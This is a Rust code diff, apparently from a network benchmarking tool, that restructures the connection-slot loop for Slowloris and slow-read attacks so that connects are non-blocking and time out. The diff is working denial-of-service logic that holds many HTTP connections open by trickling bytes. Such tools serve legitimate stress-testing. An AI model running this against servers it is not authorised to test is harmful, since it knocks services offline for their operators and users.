@@ -9,9 +9,10 @@ use std::os::fd::AsRawFd;
 use std::time::{Duration, Instant};
 
 use netbench_engine::{parse_head, Framing};
+use socket2::Socket;
 
 use crate::flood::CONNECT_BACKOFF;
-use crate::net::{self, End, SocketOptions};
+use crate::net::{self, End, SocketOptions, CONNECT_TIMEOUT};
 use crate::payload::{self, EndlessHead};
 use crate::plan::{AttackKind, AttackPlan};
 use crate::tally::{Failure, Tally};
@@ -22,6 +23,17 @@ const SLOW_READ_RCVBUF: usize = 512;
 
 /// The longest answer head slow-read collects before calling it not HTTP.
 const MAX_HEAD: usize = 64 * 1024;
+
+/// A place for one of the attack's connections.
+enum Slot {
+    Empty,
+    /// A non-blocking connect in flight since `since`.
+    Connecting {
+        socket: Socket,
+        since: Instant,
+    },
+    Held(Held),
+}
 
 /// One held connection.
 struct Held {
@@ -121,56 +133,62 @@ pub fn run(plan: &AttackPlan, end: &End, tally: &Tally) {
     };
     let endless = EndlessHead::new(&plan.host, &plan.path);
     let request = payload::good_request(&plan.host, &plan.path);
-    let mut slots: Vec<Option<Held>> = (0..plan.connections).map(|_| None).collect();
+    let mut slots: Vec<Slot> = (0..plan.connections).map(|_| Slot::Empty).collect();
     let mut next_tick = Instant::now();
     let mut retry_at = Instant::now();
     let mut polled = Polled::default();
     let mut scratch = [0u8; 4096];
+    // What a connection does as soon as it is open, and on each tick.
+    let on_open = |held: &mut Held| match plan.kind {
+        AttackKind::Slowloris => send_byte(held, &endless, tally),
+        AttackKind::SlowRead => send_request(held, &request, tally),
+        _ => Fate::Keep,
+    };
     while !end.reached() {
         if Instant::now() >= retry_at {
-            for slot in slots.iter_mut().filter(|s| s.is_none()) {
-                if end.reached() {
-                    break;
-                }
-                let Some(stream) = net::connect(plan.target, opts, end, tally) else {
-                    retry_at = Instant::now() + CONNECT_BACKOFF;
-                    break;
-                };
-                let mut held = Held {
-                    stream,
-                    head_sent: 0,
-                    answered: false,
-                    reading: SlowAnswer::default(),
-                };
-                if held.stream.set_nonblocking(true).is_err() {
-                    tally.failed(Failure::Other);
-                    continue;
-                }
-                let fate = match plan.kind {
-                    AttackKind::Slowloris => send_byte(&mut held, &endless, tally),
-                    AttackKind::SlowRead => send_request(&mut held, &request, tally),
-                    _ => Fate::Keep,
-                };
-                if let Fate::Keep = fate {
-                    *slot = Some(held);
-                    polled.stale = true;
+            for slot in slots.iter_mut().filter(|s| matches!(s, Slot::Empty)) {
+                match net::start_connect(plan.target, opts) {
+                    Ok(socket) => {
+                        *slot = Slot::Connecting {
+                            socket,
+                            since: Instant::now(),
+                        };
+                        polled.stale = true;
+                    }
+                    // No descriptor, no port: wait before the next try.
+                    Err(_) => {
+                        tally.failed(Failure::Connect);
+                        retry_at = Instant::now() + CONNECT_BACKOFF;
+                        break;
+                    }
                 }
             }
         }
         if Instant::now() >= next_tick {
             for slot in slots.iter_mut() {
-                let Some(held) = slot else { continue };
-                let fate = match plan.kind {
-                    AttackKind::Slowloris => send_byte(held, &endless, tally),
-                    AttackKind::SlowRead => read_byte(held, &request, tally),
+                let fate = match slot {
+                    Slot::Held(held) => match plan.kind {
+                        AttackKind::Slowloris => send_byte(held, &endless, tally),
+                        AttackKind::SlowRead => read_byte(held, &request, tally),
+                        _ => Fate::Keep,
+                    },
                     _ => Fate::Keep,
                 };
                 if !matches!(fate, Fate::Keep) {
-                    *slot = None;
+                    *slot = Slot::Empty;
                     polled.stale = true;
                 }
             }
             next_tick = (next_tick + plan.interval).max(Instant::now());
+        }
+        // Connects the server never answered (a full accept queue).
+        for slot in slots.iter_mut() {
+            if matches!(slot, Slot::Connecting { since, .. } if since.elapsed() >= CONNECT_TIMEOUT)
+            {
+                tally.failed(Failure::Connect);
+                *slot = Slot::Empty;
+                polled.stale = true;
+            }
         }
         polled.wait(plan.kind, &slots, next_tick, retry_at, end);
         for (pfd, &at) in polled.fds.iter().zip(&polled.owners) {
@@ -178,17 +196,44 @@ pub fn run(plan: &AttackPlan, end: &End, tally: &Tally) {
                 continue;
             }
             let slot = &mut slots[at];
-            let Some(held) = slot.as_mut() else { continue };
-            let fate = if plan.kind == AttackKind::SlowRead {
-                // slow-read never reads faster than its tick: the server
-                // closed (or reset) the connection.
-                tally.closed_by_server();
-                Fate::ClosedByServer
-            } else {
-                drain(held, &mut scratch, tally)
+            let fate = match slot {
+                Slot::Empty => continue,
+                Slot::Connecting { socket, .. } => match net::connected(socket) {
+                    Ok(()) => {
+                        tally.opened();
+                        let Slot::Connecting { socket, .. } = std::mem::replace(slot, Slot::Empty)
+                        else {
+                            unreachable!("matched as connecting")
+                        };
+                        let mut held = Held {
+                            stream: socket.into(),
+                            head_sent: 0,
+                            answered: false,
+                            reading: SlowAnswer::default(),
+                        };
+                        let fate = on_open(&mut held);
+                        if matches!(fate, Fate::Keep) {
+                            *slot = Slot::Held(held);
+                        }
+                        polled.stale = true;
+                        continue;
+                    }
+                    Err(_) => {
+                        tally.failed(Failure::Connect);
+                        retry_at = Instant::now() + CONNECT_BACKOFF;
+                        Fate::Drop
+                    }
+                },
+                // slow-read never reads faster than its tick: news is that
+                // the server closed (or reset) the connection.
+                Slot::Held(_) if plan.kind == AttackKind::SlowRead => {
+                    tally.closed_by_server();
+                    Fate::ClosedByServer
+                }
+                Slot::Held(held) => drain(held, &mut scratch, tally),
             };
             if !matches!(fate, Fate::Keep) {
-                *slot = None;
+                *slot = Slot::Empty;
                 polled.stale = true;
             }
         }
@@ -216,14 +261,15 @@ impl Polled {
     fn wait(
         &mut self,
         kind: AttackKind,
-        slots: &[Option<Held>],
+        slots: &[Slot],
         next_tick: Instant,
         retry_at: Instant,
         end: &End,
     ) {
         // slow-read reads only on its tick, so readable is no news; a
-        // close (RDHUP) or a reset (ERR, HUP, always reported) is.
-        let events = match kind {
+        // close (RDHUP) or a reset (ERR, HUP, always reported) is. A
+        // connect in flight is news once writable.
+        let held_events = match kind {
             AttackKind::SlowRead => libc::POLLRDHUP,
             _ => libc::POLLIN | libc::POLLRDHUP,
         };
@@ -231,19 +277,22 @@ impl Polled {
             self.stale = false;
             self.fds.clear();
             self.owners.clear();
-            for (at, held) in slots.iter().enumerate() {
-                if let Some(h) = held {
-                    self.fds.push(libc::pollfd {
-                        fd: h.stream.as_raw_fd(),
-                        events,
-                        revents: 0,
-                    });
-                    self.owners.push(at);
-                }
+            for (at, slot) in slots.iter().enumerate() {
+                let (fd, events) = match slot {
+                    Slot::Empty => continue,
+                    Slot::Connecting { socket, .. } => (socket.as_raw_fd(), libc::POLLOUT),
+                    Slot::Held(h) => (h.stream.as_raw_fd(), held_events),
+                };
+                self.fds.push(libc::pollfd {
+                    fd,
+                    events,
+                    revents: 0,
+                });
+                self.owners.push(at);
             }
         }
         let mut until = next_tick.min(end.deadline);
-        if slots.iter().any(Option::is_none) {
+        if slots.iter().any(|s| matches!(s, Slot::Empty)) {
             until = until.min(retry_at);
         }
         let timeout = until
